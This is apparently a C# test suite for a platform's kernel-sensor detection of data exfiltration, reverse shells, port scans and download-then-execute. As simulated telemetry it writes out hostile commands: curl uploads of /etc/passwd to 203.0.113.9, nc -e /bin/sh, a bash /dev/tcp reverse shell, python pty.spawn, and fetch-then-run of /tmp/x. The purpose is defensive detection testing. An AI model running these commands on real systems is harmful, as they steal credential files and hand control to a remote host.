using Platform.Api.Incidents;
using Platform.Contracts;
using Platform.Tests.Infrastructure;
using static Platform.Tests.Incidents.IncidentScenario;

namespace Platform.Tests.Incidents;

/// <summary>
/// The rules on what the kernel sensor records (docs/detection.md): every read of a sensitive file (name-service
/// look-ups too), connection attempts with their result and direction, a shell's standard input and output, the real
/// argv of a script run by an interpreter or through its <c>#!</c> line.
/// </summary>
public abstract class SensorDetectionTests(PlatformApi api)
{
    private static readonly ContainerRef App = new() { Id = "3c1d9e0f7a2b", Name = "app", Image = "app:1" };

    [SkippableFact]
    public async Task Curl_looking_up_its_user_is_no_exfiltration_while_curl_sending_the_file_it_names_is()
    {
        // curl -s http://203.0.113.9/ reads /etc/passwd itself (getpwuid, looking for ~/.curlrc); so do ls -l and id
        // run beside it by the same shell; java read it at its start. None of them names the file.
        var s = await StartAsync(api);
        await s.PushAsync(
            s.Start(T0, 4101, 1, "java", "systemd", ["java", "-jar", "/opt/app.jar"], App),
            s.File(T0.AddMilliseconds(5), 4101, "java", "/etc/passwd", FimOperation.Read, App),
            s.Start(T0.AddSeconds(1), 4300, 4101, "sh", "java", ["sh", "-c", "ls -l /tmp; id; curl -s http://203.0.113.9/"], App, "/bin/sh"),
            s.Start(T0.AddSeconds(1.1), 4301, 4300, "ls", "sh", ["ls", "-l", "/tmp"], App, "/bin/ls"),
            s.File(T0.AddSeconds(1.11), 4301, "ls", "/etc/passwd", FimOperation.Read, App),
            s.File(T0.AddSeconds(1.12), 4301, "ls", "/etc/group", FimOperation.Read, App),
            s.Start(T0.AddSeconds(1.2), 4302, 4300, "id", "sh", ["id"], App, "/usr/bin/id"),
            s.File(T0.AddSeconds(1.21), 4302, "id", "/etc/passwd", FimOperation.Read, App),
            s.Start(T0.AddSeconds(1.3), 4303, 4300, "curl", "sh", ["curl", "-s", "http://203.0.113.9/"], App, "/usr/bin/curl", "/home/app"));
        await s.PushAsync(
            s.File(T0.AddSeconds(1.31), 4303, "curl", "/etc/passwd", FimOperation.Read, App),
            s.Connect(T0.AddSeconds(1.4), 4303, "curl", "203.0.113.9", 80, App, NetworkDirection.Outbound, ConnectResult.Connected));
        Assert.Empty(await s.IncidentsAsync(IncidentCategory.DataExfiltration));

        // curl --data-binary @/etc/passwd: curl reads the file it names and sends it.
        var named = await StartAsync(api);
        await named.PushAsync(
            named.Start(T0, 4310, 4101, "curl", "java", ["curl", "--data-binary", "@/etc/passwd", "http://203.0.113.9/"], App),
            named.File(T0.AddMilliseconds(10), 4310, "curl", "/etc/passwd", FimOperation.Read, App),
            named.Connect(T0.AddMilliseconds(20), 4310, "curl", "203.0.113.9", 80, App, result: ConnectResult.Connected));
        var incident = Assert.Single(await named.IncidentsAsync(IncidentCategory.DataExfiltration));
        var finding = Assert.Single(await named.FindingsAsync(incident));
        Assert.Contains("curl (pid 4310) read /etc/passwd", finding.Summary);

        // /etc/shadow is no name-service database: read by anything, it is sensitive as before.
        var shadow = await StartAsync(api);
        await shadow.PushAsync(
            shadow.Start(T0, 4320, 4101, "python3", "java", ["python3", "/opt/tool.py"], App),
            shadow.File(T0.AddMilliseconds(10), 4320, "python3", "/etc/shadow", FimOperation.Read, App),
            shadow.Connect(T0.AddMilliseconds(20), 4320, "python3", "203.0.113.9", 443, App));
        Assert.Single(await shadow.IncidentsAsync(IncidentCategory.DataExfiltration));

        // A public CA bundle matches /**/*.pem by its name; every HTTPS client reads one before it connects.
        var certificates = await StartAsync(api);
        await certificates.PushAsync(
            certificates.Start(T0, 4330, 4101, "python3", "java", ["python3", "/opt/fetch.py"], App),
            certificates.File(T0.AddMilliseconds(10), 4330, "python3", "/usr/lib/python3/dist-packages/certifi/cacert.pem", FimOperation.Read, App),
            certificates.File(T0.AddMilliseconds(11), 4330, "python3", "/etc/ssl/certs/ISRG_Root_X1.pem", FimOperation.Read, App),
            certificates.Connect(T0.AddMilliseconds(20), 4330, "python3", "203.0.113.9", 443, App, result: ConnectResult.Connected));
        Assert.Empty(await certificates.IncidentsAsync(IncidentCategory.DataExfiltration));
    }

    [SkippableFact]
    public async Task The_seed_chain_with_every_look_up_the_sensor_sees_is_one_exfiltration_by_cp_with_sibling_lineage()
    {
        // java -> sh -c 'cp /etc/passwd /tmp/p; curl -s --data-binary @/tmp/p http://203.0.113.9/', as the kernel sensor
        // records it with no FIM rule: cp's read, and curl's own look-up of /etc/passwd.
        var s = await StartAsync(api);
        await s.PushAsync(
            s.Start(T0, 4230, 4101, "sh", "java", ["sh", "-c", "cp /etc/passwd /tmp/p; curl -s --data-binary @/tmp/p http://203.0.113.9/"], App, "/bin/sh", "/opt/app"),
            s.Start(T0.AddMilliseconds(100), 4231, 4230, "cp", "sh", ["cp", "/etc/passwd", "/tmp/p"], App, "/bin/cp", "/opt/app"),
            s.File(T0.AddMilliseconds(110), 4231, "cp", "/etc/passwd", FimOperation.Read, App),
            s.Start(T0.AddMilliseconds(300), 4232, 4230, "curl", "sh", ["curl", "-s", "--data-binary", "@/tmp/p", "http://203.0.113.9/"], App, "/usr/bin/curl", "/opt/app"),
            s.File(T0.AddMilliseconds(305), 4232, "curl", "/etc/passwd", FimOperation.Read, App),
            s.Connect(T0.AddMilliseconds(320), 4232, "curl", "203.0.113.9", 80, App, NetworkDirection.Outbound, ConnectResult.Connected));

        var incident = Assert.Single(await s.IncidentsAsync(IncidentCategory.DataExfiltration));
        var finding = Assert.Single(await s.FindingsAsync(incident));
        Assert.Contains("after cp (pid 4231) read /etc/passwd; lineage java -> sh -> {cp, curl}", finding.Summary);
        Assert.Equal(["java", "sh", "cp", "curl"], finding.Lineage.Select(p => p.Name));
    }

    [SkippableFact]
    public async Task A_relative_name_or_a_redirection_names_the_file_too()
    {
        // cd /etc; cp passwd /tmp/p; curl ...: cp's argument is relative to its working directory.
        var s = await StartAsync(api);
        await s.PushAsync(
            s.Start(T0, 4400, 4101, "sh", "java", ["sh", "-c", "cd /etc; cp passwd /tmp/p; curl -s -T /tmp/p http://203.0.113.9/"], App, "/bin/sh", "/opt/app"),
            s.Start(T0.AddMilliseconds(10), 4401, 4400, "cp", "sh", ["cp", "passwd", "/tmp/p"], App, "/bin/cp", "/etc"),
            s.File(T0.AddMilliseconds(11), 4401, "cp", "/etc/passwd", FimOperation.Read, App),
            s.Start(T0.AddMilliseconds(20), 4402, 4400, "curl", "sh", ["curl", "-s", "-T", "/tmp/p", "http://203.0.113.9/"], App, "/usr/bin/curl", "/etc"),
            s.File(T0.AddMilliseconds(21), 4402, "curl", "/etc/passwd", FimOperation.Read, App),
            s.Connect(T0.AddMilliseconds(30), 4402, "curl", "203.0.113.9", 80, App, result: ConnectResult.Connected));
        var finding = Assert.Single(await s.FindingsAsync(Assert.Single(await s.IncidentsAsync(IncidentCategory.DataExfiltration))));
        Assert.Contains("cp (pid 4401) read /etc/passwd", finding.Summary);

        // curl --data-binary @- http://... < /etc/passwd: the shell's forked child opens the file before it runs curl
        // (the sensor names it by the image it had then, sh); sh's command names the file.
        var redirected = await StartAsync(api);
        await redirected.PushAsync(
            redirected.Start(T0, 4410, 4101, "sh", "java", ["sh", "-c", "curl -s --data-binary @- http://203.0.113.9/ </etc/passwd"], App, "/bin/sh", "/opt/app"),
            redirected.File(T0.AddMilliseconds(10), 4411, "sh", "/etc/passwd", FimOperation.Read, App),
            redirected.Start(T0.AddMilliseconds(11), 4411, 4410, "curl", "sh", ["curl", "-s", "--data-binary", "@-", "http://203.0.113.9/"], App, "/usr/bin/curl", "/opt/app"),
            redirected.File(T0.AddMilliseconds(12), 4411, "curl", "/etc/passwd", FimOperation.Read, App),
            redirected.Connect(T0.AddMilliseconds(20), 4411, "curl", "203.0.113.9", 80, App));
        finding = Assert.Single(await redirected.FindingsAsync(Assert.Single(await redirected.IncidentsAsync(IncidentCategory.DataExfiltration))));
        Assert.Contains("sh (pid 4411) read /etc/passwd", finding.Summary);

        // A file of another name in another directory is not /etc/passwd (/tmp/passwd, passwd- and passwd.bak beside it).
        var other = await StartAsync(api);
        await other.PushAsync(
            other.Start(T0, 4420, 4101, "sh", "java", ["sh", "-c", "cp /tmp/passwd /etc/passwd- passwd.bak /tmp/q; curl http://203.0.113.9/"], App, "/bin/sh", "/tmp"),
            other.Start(T0.AddMilliseconds(10), 4421, 4420, "cp", "sh", ["cp", "/tmp/passwd", "/etc/passwd-", "passwd.bak", "/tmp/q"], App, "/bin/cp", "/tmp"),
            other.File(T0.AddMilliseconds(11), 4421, "cp", "/etc/passwd", FimOperation.Read, App),
            other.Start(T0.AddMilliseconds(20), 4422, 4420, "curl", "sh", ["curl", "http://203.0.113.9/"], App, "/usr/bin/curl", "/tmp"),
            other.Connect(T0.AddMilliseconds(30), 4422, "curl", "203.0.113.9", 80, App));
        Assert.Empty(await other.IncidentsAsync(IncidentCategory.DataExfiltration));
    }

    [SkippableFact]
    public async Task An_accepted_connection_or_a_refused_attempt_is_no_egress_and_a_connection_of_unknown_result_is()
    {
        TelemetryEvent[] Read(IncidentScenario s) =>
        [
            s.Start(T0, 4500, 4101, "sh", "java", ["sh", "-c", "cat /etc/passwd; nc 203.0.113.9 80"], App, "/bin/sh"),
            s.Start(T0.AddMilliseconds(10), 4501, 4500, "cat", "sh", ["cat", "/etc/passwd"], App, "/bin/cat"),
            s.File(T0.AddMilliseconds(11), 4501, "cat", "/etc/passwd", FimOperation.Read, App),
            s.Start(T0.AddMilliseconds(20), 4502, 4500, "nc", "sh", ["nc", "203.0.113.9", "80"], App, "/bin/nc"),
        ];

        var s = await StartAsync(api);
        await s.PushAsync(Read(s));
        await s.PushAsync(
            s.Connect(T0.AddMilliseconds(30), 4502, "nc", "203.0.113.9", 80, App, NetworkDirection.Inbound, ConnectResult.Connected),
            s.Connect(T0.AddMilliseconds(40), 4502, "nc", "203.0.113.9", 80, App, NetworkDirection.Outbound, ConnectResult.Refused),
            s.Connect(T0.AddMilliseconds(50), 4502, "nc", "203.0.113.9", 81, App, result: ConnectResult.TimedOut),
            s.Connect(T0.AddMilliseconds(60), 4502, "nc", "203.0.113.9", 82, App, result: ConnectResult.InProgress));
        Assert.Empty(await s.IncidentsAsync(IncidentCategory.DataExfiltration));

        // The same with no result (a collector that sees only connections made): egress, as before.
        var control = await StartAsync(api);
        await control.PushAsync(Read(control));
        await control.PushAsync(control.Connect(T0.AddMilliseconds(30), 4502, "nc", "203.0.113.9", 80, App));
        Assert.Single(await control.IncidentsAsync(IncidentCategory.DataExfiltration));
    }

    [SkippableFact]
    public async Task A_shell_whose_input_is_a_socket_is_a_reverse_shell_whoever_connected_it()
    {
        var s = await StartAsync(api);
        // Not: a shell of a service whose output goes to journald (a unix socket), one on a loopback socket, an
        // accepted connection of a shell, and a shell's refused attempt.
        await s.PushAsync(
            s.Start(T0, 600, 1, "bash", "systemd", ["bash", "/usr/local/bin/backup.sh"], stdio: new ProcessStdio { Stdin = StdioKind.None, Stdout = StdioKind.Socket, Stderr = StdioKind.Socket }),
            s.Start(T0, 601, 1, "sh", "systemd", ["sh"], stdio: new ProcessStdio { Stdin = StdioKind.Socket, Stdout = StdioKind.Socket, RemoteAddress = "127.0.0.1", RemotePort = 9000 }),
            s.Start(T0, 602, 1, "bash", "systemd", ["bash", "-c", "echo ok"], stdio: new ProcessStdio { Stdin = StdioKind.Pipe, Stdout = StdioKind.Tty }),
            s.Connect(T0.AddSeconds(1), 602, "bash", "203.0.113.9", 4444, direction: NetworkDirection.Inbound, result: ConnectResult.Connected),
            s.Connect(T0.AddSeconds(1), 602, "bash", "203.0.113.9", 4445, result: ConnectResult.Refused));
        Assert.Empty(await s.IncidentsAsync(IncidentCategory.ReverseShell));

        // nc -e /bin/sh 203.0.113.9 4444: nc connects, then runs sh on the socket; sh's arguments are harmless.
        await s.PushAsync(
            s.Start(T0.AddSeconds(2), 700, 1, "nc", "systemd", ["nc", "203.0.113.9", "4444"]),
            s.Start(T0.AddSeconds(3), 701, 700, "sh", "nc", ["sh"], executable: "/bin/sh",
                stdio: new ProcessStdio { Stdin = StdioKind.Socket, Stdout = StdioKind.Socket, Stderr = StdioKind.Socket, RemoteAddress = "203.0.113.9", RemotePort = 4444 }));
        var incident = Assert.Single(await s.IncidentsAsync(IncidentCategory.ReverseShell));
        Assert.Equal(IncidentSeverity.Critical, incident.Severity);
        var finding = Assert.Single(await s.FindingsAsync(incident));
        Assert.Contains("sh (pid 701) runs with its input or output on a network socket to 203.0.113.9:4444", finding.Summary);
        Assert.Equal(["nc", "sh"], finding.Lineage.Select(p => p.Name).TakeLast(2));

        // A python whose standard output only is a socket, started by a compiled implant: found too.
        var implant = await StartAsync(api);
        await implant.PushAsync(implant.Start(T0, 800, 1, "python3", "kworkerd", ["python3", "-c", "import pty; pty.spawn('/bin/bash')"],
            stdio: new ProcessStdio { Stdin = StdioKind.Pipe, Stdout = StdioKind.Socket, RemoteAddress = "2001:db8::9", RemotePort = 443 }));
        Assert.Single(await implant.IncidentsAsync(IncidentCategory.ReverseShell));

        // bash -i >& /dev/tcp/203.0.113.9/4444 0>&1: bash itself connects (found as before, by its command and its connection).
        var devtcp = await StartAsync(api);
        await devtcp.PushAsync(
            devtcp.Start(T0, 900, 1, "bash", "systemd", ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"]),
            devtcp.Connect(T0.AddMilliseconds(5), 900, "bash", "203.0.113.9", 4444, result: ConnectResult.Connected));
        Assert.Equal(2, Assert.Single(await devtcp.IncidentsAsync(IncidentCategory.ReverseShell)).FindingCount);
    }

    [SkippableFact]
    public async Task Thirty_refused_connects_are_a_port_scan_and_accepted_connections_are_not()
    {
        var s = await StartAsync(api);
        // A server accepting 30 connections of one client (30 client ports, some of them stratum ports): no scan, no mining.
        await s.PushAsync(Enumerable.Range(0, 30).Select(i =>
            (TelemetryEvent)s.Connect(T0.AddMilliseconds(100 * i), 1000, "nginx", "198.51.100.30", 3320 + i, direction: NetworkDirection.Inbound, result: ConnectResult.Connected)).ToArray());
        Assert.Empty(await s.IncidentsAsync());

        // A scan of 30 closed ports (3320-3349, stratum ports among them), every connect refused: a port scan, no mining.
        await s.PushAsync(Enumerable.Range(0, 30).Select(i =>
            (TelemetryEvent)s.Connect(T0.AddSeconds(10).AddMilliseconds(10 * i), 1100, "scan", "10.0.0.7", 3320 + i, result: ConnectResult.Refused)).ToArray());
        var incident = Assert.Single(await s.IncidentsAsync());
        Assert.Equal((IncidentCategory.PortScan, IncidentSeverity.Medium), (incident.Category, incident.Severity));
        Assert.Contains("scan (pid 1100) tried 20 ports of 10.0.0.7 within 60 s (20 of 20 attempts refused or unanswered)", incident.Summary);
    }

    [SkippableFact]
    public async Task A_downloaded_file_run_by_an_interpreter_or_its_shebang_is_found_from_the_real_argv()
    {
        async Task<IncidentScenario> Downloaded()
        {
            var s = await StartAsync(api);
            await s.PushAsync(s.Start(T0, 300, 200, "curl", "bash", ["curl", "-o", "/tmp/x", "http://203.0.113.9/x.sh"], cwd: "/tmp"));
            return s;
        }

        // sh /tmp/x: the interpreter's first argument.
        var s = await Downloaded();
        await s.PushAsync(s.Start(T0.AddSeconds(1), 301, 200, "sh", "bash", ["sh", "/tmp/x"], executable: "/bin/sh", cwd: "/root"));
        Assert.Contains("sh (pid 301) ran /tmp/x", Assert.Single(await s.IncidentsAsync(IncidentCategory.DownloadExecute)).Summary);

        // bash -o errexit -x x in /tmp, and python3 -u ./x: after the interpreter's options, relative to the working directory.
        foreach (var args in new[] { new[] { "bash", "-o", "errexit", "-x", "x" }, ["python3", "-u", "./x", "--verbose"], ["perl", "-w", "-Mstrict", "x"] })
        {
            s = await Downloaded();
            await s.PushAsync(s.Start(T0.AddSeconds(1), 302, 200, args[0], "bash", args, executable: "/usr/bin/" + args[0], cwd: "/tmp"));
            Assert.Single(await s.IncidentsAsync(IncidentCategory.DownloadExecute));
        }

        // chmod +x /tmp/x; ./x with a #! line. The kernel sensor: the executable is the script, with its interpreter.
        s = await Downloaded();
        await s.PushAsync(s.Start(T0.AddSeconds(1), 303, 200, "x", "bash", ["/bin/sh", "./x"], executable: "/tmp/x", cwd: "/tmp", interpreter: "/bin/sh"));
        Assert.Single(await s.IncidentsAsync(IncidentCategory.DownloadExecute));
        // The fallback collectors: argv as the kernel rewrote it, the executable the interpreter's (dash behind /bin/sh).
        s = await Downloaded();
        await s.PushAsync(s.Start(T0.AddSeconds(1), 304, 200, "x", "bash", ["/bin/sh", "./x"], executable: "/bin/dash", cwd: "/tmp"));
        Assert.Single(await s.IncidentsAsync(IncidentCategory.DownloadExecute));

        // Not run: sh -c "cat /tmp/x" (a command, not a script), cat /tmp/x, python3 -c with the file as an argument of the code.
        s = await Downloaded();
        await s.PushAsync(
            s.Start(T0.AddSeconds(1), 305, 200, "sh", "bash", ["sh", "-c", "cat /tmp/x"], executable: "/bin/sh", cwd: "/tmp"),
            s.Start(T0.AddSeconds(1), 306, 305, "cat", "sh", ["cat", "/tmp/x"], executable: "/bin/cat", cwd: "/tmp"),
            s.Start(T0.AddSeconds(2), 307, 200, "sh", "bash", ["sh", "-ec", "/tmp/x"], executable: "/bin/sh", cwd: "/tmp"),
            s.Start(T0.AddSeconds(3), 308, 200, "python3", "bash", ["python3", "-c", "print(1)", "/tmp/x"], executable: "/usr/bin/python3", cwd: "/tmp"));
        Assert.Empty(await s.IncidentsAsync(IncidentCategory.DownloadExecute));
    }
}

/// <summary>Which file an interpreter's command line runs (download-then-execute).</summary>
public sealed class InterpreterScriptsTests
{
    [Theory]
    [InlineData("sh /tmp/x", "/tmp/x")]
    [InlineData("sh -c /tmp/x", null)]
    [InlineData("sh -ec /tmp/x", null)]
    [InlineData("sh -s /tmp/x", null)]
    [InlineData("bash -o pipefail +o errexit --rcfile /r -- -x", "-x")]
    [InlineData("bash -x ./x a b", "./x")]
    [InlineData("python3 -u -W ignore /tmp/x", "/tmp/x")]
    [InlineData("python3 -m http.server", null)]
    [InlineData("python3 -", null)]
    [InlineData("perl -Mstrict -le print", null)]
    [InlineData("perl -I /lib -l0 -w x.pl", "x.pl")]
    [InlineData("ruby -r json -e puts", null)]
    [InlineData("ruby -I lib x.rb", "x.rb")]
    [InlineData("node --require ./hook.js ./x.js", "./x.js")]
    [InlineData("node --eval 1 x.js", null)]
    [InlineData("php -d display_errors=1 -f /tmp/x.php", "/tmp/x.php")]
    [InlineData("php -r echo", null)]
    [InlineData("php /tmp/x.php", "/tmp/x.php")]
    [InlineData("lua /tmp/x.lua", "/tmp/x.lua")]
    public void An_interpreters_script_is_its_first_argument_after_its_own_options(string commandLine, string? script)
    {
        var args = commandLine.Split(' ');
        Assert.Equal(script, InterpreterScripts.ScriptOf(InterpreterScripts.FamilyOf(args[0]), args));
    }
}

public sealed class SensorDetectionTestsOnSqlite(SqliteApi api) : SensorDetectionTests(api), IClassFixture<SqliteApi>;

/// <summary>With batches read back from storage (as for another instance's batches), not handed over in memory.</summary>
public sealed class SensorDetectionTestsFromStorage(DetectionTestsFromStorage.Api api) : SensorDetectionTests(api), IClassFixture<DetectionTestsFromStorage.Api>;

public sealed class SensorDetectionTestsOnPostgres(PostgresApi api) : SensorDetectionTests(api), IClassFixture<PostgresApi>;
